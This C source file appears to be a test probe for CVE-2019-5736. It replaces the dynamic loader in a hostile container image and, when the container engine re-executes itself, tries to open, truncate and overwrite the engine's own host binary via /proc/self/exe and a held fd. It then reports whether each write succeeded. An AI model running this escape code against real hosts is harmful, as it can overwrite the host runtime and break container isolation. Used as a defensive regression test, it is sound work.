/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Takes the place of the dynamic loader in a hostile root file system. When a container
 * makes the engine run /proc/self/exe, this is what the kernel starts, with the engine's
 * own executable as /proc/self/exe (CVE-2019-5736). It tries to write to that, by name and
 * by an fd opened before. No C library, as it is started in another program's place.
 */
#include <sys/syscall.h>

#define O_WRONLY 1
#define O_RDWR   2
#define O_TRUNC  01000
#define O_PATH   010000000
#define AT_FDCWD -100

static long call(long n, long a, long b, long c, long d)
{
#if defined(__x86_64__)
	register long r10 __asm__("r10") = d;
	long result;
	__asm__ volatile("syscall"
			 : "=a"(result)
			 : "a"(n), "D"(a), "S"(b), "d"(c), "r"(r10)
			 : "rcx", "r11", "memory");
	return result;
#elif defined(__aarch64__)
	register long x8 __asm__("x8") = n, x0 __asm__("x0") = a, x1 __asm__("x1") = b,
			 x2 __asm__("x2") = c, x3 __asm__("x3") = d;
	__asm__ volatile("svc 0"
			 : "+r"(x0)
			 : "r"(x8), "r"(x1), "r"(x2), "r"(x3)
			 : "memory");
	return x0;
#else
#error "write this for your machine"
#endif
}

static void print(const char *s)
{
	long n = 0;

	while (s[n])
		n++;
	call(SYS_write, 1, (long)s, n, 0);
}

static void number(long n)
{
	char text[24];
	int at = sizeof(text) - 1;
	int negative = n < 0;

	text[at] = '\0';
	do
		text[--at] = (char)('0' + (negative ? -(n % 10) : n % 10));
	while ((n /= 10));
	if (negative)
		text[--at] = '-';
	print(text + at);
}

static void attack(const char *name, const char *path, long flags)
{
	long fd = call(SYS_openat, AT_FDCWD, (long)path, flags, 0);
	long n = fd < 0 ? 0 : call(SYS_write, fd, (long)"#!/bin/sh\n", 10, 0);

	print(name);
	print(" open ");
	number(fd < 0 ? fd : 0);
	print(" write ");
	number(n);
	print("\n");
}

__attribute__((noreturn)) void _start(void)
{
	char target[256], path[] = "/proc/self/fd/0";
	long n = call(SYS_readlinkat, AT_FDCWD, (long)"/proc/self/exe", (long)target,
		      sizeof(target) - 1);
	long held = call(SYS_openat, AT_FDCWD, (long)"/proc/self/exe", O_PATH, 0);

	target[n > 0 ? n : 0] = '\0';
	print("exe ");
	print(target);
	print("\n");
	path[sizeof(path) - 2] = (char)('0' + held);
	attack("name", "/proc/self/exe", O_WRONLY);
	attack("truncate", "/proc/self/exe", O_WRONLY | O_TRUNC);
	attack("rw", "/proc/self/exe", O_RDWR);
	attack("held", path, O_RDWR);
	for (;;)
		call(SYS_exit_group, 0, 0, 0, 0);
}
